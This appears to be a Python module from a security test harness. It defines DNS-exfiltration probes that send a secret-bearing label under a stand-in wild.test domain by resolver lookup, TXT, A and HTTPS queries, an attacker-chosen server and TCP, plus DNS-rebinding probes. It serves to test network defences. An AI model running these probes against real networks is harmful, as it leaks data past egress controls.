"""Names: what a resolver is asked, and what its answer is worth later."""

from __future__ import annotations

import secrets
import socket
import struct

from .registry import SECONDS, Stage, Stopped, attack

_LEAK = "c2VjcmV0.{by}.wild.test"


def _query(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def _sent(stage: Stage, kind: int, server: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(SECONDS)
        connection.sendto(_query(_LEAK.format(by=stage.by), kind), (server, 53))
        return f"{len(connection.recv(4096))} octets"


@attack("names", evidence="query", stopped="name resolution")
def labels(stage: Stage) -> str:
    """Carry data out in the labels of a name that a wildcard allows."""
    try:
        return str(socket.getaddrinfo(_LEAK.format(by=stage.by), 80))
    except socket.gaierror as error:
        raise Stopped(str(error)) from None


@attack("names", evidence="query", stopped="octets")
def text(stage: Stage) -> str:
    """The same in a query for TXT."""
    return _sent(stage, 16, stage.name_server)


@attack("names", evidence="query", stopped="octets")
def own_server(stage: Stage) -> str:
    """The same, asked of a name server of the attacker's choice."""
    return _sent(stage, 1, stage.name_server)


@attack("names", evidence="query", stopped="octets")
def service_binding(stage: Stage) -> str:
    """The same in a query for HTTPS records."""
    return _sent(stage, 65, stage.name_server)


@attack("names", evidence="query", stopped="octets")
def over_tcp(stage: Stage) -> str:
    """The same over TCP."""
    with socket.create_connection((stage.name_server, 53), SECONDS) as connection:
        data = _query(_LEAK.format(by=stage.by), 1)
        connection.sendall(struct.pack("!H", len(data)) + data)
        return f"{len(connection.recv(4096))} octets"


@attack("names", stopped="page of r")
def rebinding(stage: Stage) -> str:
    """A name that leads to an allowed address when it is checked, and to the host's loopback when
    it is connected to."""
    place = f"r{secrets.token_hex(4)}.rebind.test:{stage.plain}"
    return stage.ask(stage.head("/open/x", place), stage.tunnel(place))


@attack("names", stopped="page of r")
def rebinding_later(stage: Stage) -> str:
    """The same, and the second connection is the one that is meant."""
    place = f"r{secrets.token_hex(4)}.rebind.test:{stage.plain}"
    said = ""
    for _ in range(3):
        said += stage.ask(stage.head("/open/x", place), stage.tunnel(place))
    return said
